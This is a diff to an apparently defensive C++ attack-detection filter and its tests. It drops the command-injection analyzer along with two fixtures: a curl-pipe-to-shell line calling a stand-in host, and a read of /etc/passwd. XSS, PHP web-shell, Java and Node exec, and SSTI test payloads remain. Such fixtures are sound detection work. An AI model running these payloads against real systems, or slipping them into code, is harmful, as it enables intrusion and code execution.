@@ -11,7 +11,6 @@
 #include "detect/analyze/java/java_expression.h"
 #include "detect/analyze/php/php_injection.h"
 #include "detect/analyze/script/script_code.h"
-#include "detect/analyze/shell/cmd_injection.h"
 #include "detect/analyze/template/ssti.h"
 #include "detect/analyze/xss/xss.h"
 #include "detect/decode/decode_flags.h"
@@ -25,7 +24,6 @@ bool denied(std::string_view text, Location location = Location::kBody, std::uin
   static const std::vector<std::unique_ptr<Analyzer>> kAnalyzers = [] {
     std::vector<std::unique_ptr<Analyzer>> out;
     out.push_back(make_xss_analyzer());
-    out.push_back(make_cmd_injection_analyzer());
     out.push_back(make_php_injection_analyzer());
     out.push_back(make_java_expression_analyzer());
     out.push_back(make_ssti_analyzer());
@@ -48,7 +46,7 @@ constexpr const char* kCode[] = {
     "<script>alert(1)</script>",    "<img src=x onerror=alert(1)>",
     "<?php system($_GET['c']); ?>", "Runtime.getRuntime().exec(\"id\")",
     "{{ ''.__class__.__mro__ }}",   "require('child_process').exec('id')",
-    "eval(atob('YWxlcnQoMSk='))",   "; curl http://h7.example/x | sh",
+    "eval(atob('YWxlcnQoMSk='))",
 };
 
 // Documents that show it, and documents beside which it stands: $ is its place.
@@ -130,7 +128,6 @@ constexpr const char* kHostilePrograms[] = {
     "<?php\n$a = 1;\n$b = 2;\nif (isset($_POST['c'])) {\n  system($_POST['c']);\n}\n?>",
     "a();\nb();\nc();\nd();\n<script>alert(1)</script>",
     "a();\nb();\nc();\nd();\n<img src=x onerror=alert(1)>",
-    "x\n;\n{\n}\n; cat /etc/passwd",
 };
 
 TEST(Writing, LinesOfAProgramHideNoAttack) {
